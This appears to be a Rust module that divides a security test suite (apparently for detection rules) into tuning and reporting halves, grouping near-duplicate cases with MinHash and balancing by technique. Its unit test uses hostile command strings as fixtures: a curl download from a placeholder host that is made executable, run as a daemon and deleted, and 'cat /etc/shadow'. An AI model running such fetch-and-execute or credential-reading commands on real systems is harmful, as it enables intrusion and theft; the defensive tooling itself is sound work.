//! Two halves of a suite: one to write rules by, one to report on.
//!
//! Near-duplicates stand on the same side, and each technique is split by itself, so that neither
//! half knows the other's cases and both know all techniques. The halves follow from the content
//! alone: a new case moves no old one far.

use std::collections::{BTreeMap, BTreeSet};

use super::New;

/// Hashes in a signature.
const WIDTH: usize = 64;
/// Of these, how many must agree for near-duplicates.
const ALIKE: usize = 45;

/// For each case, whether it is in the half to tune on.
pub(super) fn halves(cases: &[New]) -> Vec<bool> {
    let groups = groups(cases);
    // The hash of a group is the smallest of its contents.
    let mut keys: BTreeMap<usize, [u8; 32]> = BTreeMap::new();
    for (case, group) in cases.iter().zip(&groups) {
        let hash = *blake3::hash(&case.body).as_bytes();
        keys.entry(*group).and_modify(|key| *key = hash.min(*key)).or_insert(hash);
    }
    let mut by_technique: BTreeMap<String, BTreeSet<([u8; 32], usize)>> = BTreeMap::new();
    let mut sizes: BTreeMap<(String, usize), usize> = BTreeMap::new();
    for (case, group) in cases.iter().zip(&groups) {
        let technique = case.techniques.first().cloned().unwrap_or_else(|| case.set.clone());
        by_technique.entry(technique.clone()).or_default().insert((keys[group], *group));
        *sizes.entry((technique, *group)).or_default() += 1;
    }
    let mut side: BTreeMap<usize, bool> = BTreeMap::new();
    for (technique, groups) in &by_technique {
        let size = |group: usize| sizes[&(technique.clone(), group)];
        let of = |side: &BTreeMap<usize, bool>, wanted: bool| -> usize {
            groups.iter().filter(|(_, g)| side.get(g) == Some(&wanted)).map(|(_, g)| size(*g)).sum()
        };
        for (key, group) in groups {
            if !side.contains_key(group) {
                let (tune, report) = (of(&side, true), of(&side, false));
                let tunes = if tune == report { key[0] & 1 == 0 } else { tune < report };
                side.insert(*group, tunes);
            }
        }
    }
    groups.iter().map(|group| side[group]).collect()
}

/// The group of each case; near-duplicates share one.
fn groups(cases: &[New]) -> Vec<usize> {
    let signatures: Vec<[u32; WIDTH]> = cases.iter().map(|case| signature(&case.body)).collect();
    let mut group: Vec<usize> = (0..cases.len()).collect();
    for one in 0..cases.len() {
        for other in 0..one {
            if root(&group, one) == root(&group, other) {
                continue;
            }
            let alike = signatures[one].iter().zip(&signatures[other]).filter(|(a, b)| a == b).count();
            if alike >= ALIKE {
                let (a, b) = (root(&group, one), root(&group, other));
                group[a.max(b)] = a.min(b);
            }
        }
    }
    (0..cases.len()).map(|case| root(&group, case)).collect()
}

fn root(group: &[usize], mut at: usize) -> usize {
    while group[at] != at {
        at = group[at];
    }
    at
}

/// The smallest hashes of all words and pairs of words ("MinHash"): the share of places in which
/// two signatures agree estimates how much of the words two texts share.
fn signature(body: &[u8]) -> [u32; WIDTH] {
    let text = String::from_utf8_lossy(body).to_lowercase();
    let lines = text.lines().filter(|line| !line.trim_start().starts_with('#'));
    let words: Vec<String> = lines
        .flat_map(|line| line.split(|c: char| !c.is_ascii_alphanumeric()))
        .filter(|word| !word.is_empty())
        .map(|word| word.chars().map(|c| if c.is_ascii_digit() { '0' } else { c }).collect())
        .collect();
    let singles = words.iter().map(|word| hash(word, ""));
    let pairs = words.windows(2).map(|pair| hash(&pair[0], &pair[1]));
    let mut smallest = [u32::MAX; WIDTH];
    for hash in singles.chain(pairs) {
        let mut state = hash;
        for slot in &mut smallest {
            // A step of the generator "splitmix64" gives each place a hash function of its own.
            state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
            let mut mixed = (state ^ (state >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
            mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
            *slot = (*slot).min((mixed >> 32) as u32);
        }
    }
    smallest
}

fn hash(one: &str, other: &str) -> u64 {
    let mut hasher = blake3::Hasher::new();
    hasher.update(one.as_bytes()).update(b"\0").update(other.as_bytes());
    let bytes = hasher.finalize();
    u64::from_le_bytes(bytes.as_bytes()[..8].try_into().expect("eight of thirty-two bytes"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::eval::Label;

    fn case(technique: &str, body: &str) -> New {
        New {
            path: String::new(),
            body: body.as_bytes().to_vec(),
            label: Label::Behaviour,
            set: "s".to_owned(),
            techniques: vec![technique.to_owned()],
            kind: "script",
            category: "",
            note: String::new(),
        }
    }

    #[test]
    fn near_duplicates_stand_on_one_side_and_techniques_are_halved() {
        let long = "curl -fsSL https://files.example.invalid/agent -o /tmp/agent\nchmod +x /tmp/agent\nnohup /tmp/agent --daemon --interval 10\nrm -f /tmp/agent";
        let mut cases = vec![case("T1105", long), case("T1105", &long.replace("10", "77"))];
        let others = ["uname -a", "cat /etc/shadow", "ps aux", "crontab -l", "lsmod", "df -h", "id", "who"];
        cases.extend(others.map(|text| case("T1082", text)));
        let halves = halves(&cases);
        assert_eq!(halves[0], halves[1]);
        assert_eq!(halves[2..].iter().filter(|tune| **tune).count(), 4, "{halves:?}");
    }
}
